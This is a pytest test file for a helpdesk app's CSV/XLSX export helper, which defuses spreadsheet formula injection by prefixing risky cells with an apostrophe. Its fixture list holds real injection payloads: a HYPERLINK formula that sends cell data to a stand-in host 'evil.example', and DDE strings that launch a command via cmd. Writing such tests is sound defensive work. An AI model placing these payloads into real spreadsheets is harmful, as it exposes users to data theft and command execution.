"""The one safe CSV/XLSX writer: formula starts defused, numbers and ordinary text untouched."""
import io
from decimal import Decimal
from fractions import Fraction

import pytest
from openpyxl import Workbook, load_workbook

from helpdesk.downloads import csv_bytes, safe_cell, xlsx_text_only

ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+95 9 767 889 802",  # a phone typed with its plus
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # fullwidth ＝, which Excel reads as "="
    "\uff20SUM(A1)",
    "   =1+1",  # LibreOffice reads a formula after spaces
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ma Hla", "မအေးအေး", "NDG-2026-0001", "a=b", "1,500,000", "", "Golden Land (=) Co"])
def test_ordinary_text_is_untouched(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, 0, 12, Decimal("-1500.50"), Fraction(1, 3), 2.5])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_csv_bytes_defuses_every_cell_and_keeps_the_bom():
    data = csv_bytes(lambda writer: writer.writerows([["Name", "Amount"], ["=1+1", -5], [None, "ok"]]))
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig").splitlines() == ["Name,Amount", "'=1+1,-5", ",ok"]


def test_xlsx_text_only_stores_typed_formulas_as_text():
    workbook = Workbook()
    workbook.active.append(["=cmd|' /C calc'!A0", "Ma Hla", 7])
    xlsx_text_only(workbook)
    out = io.BytesIO()
    workbook.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == "=cmd|' /C calc'!A0"
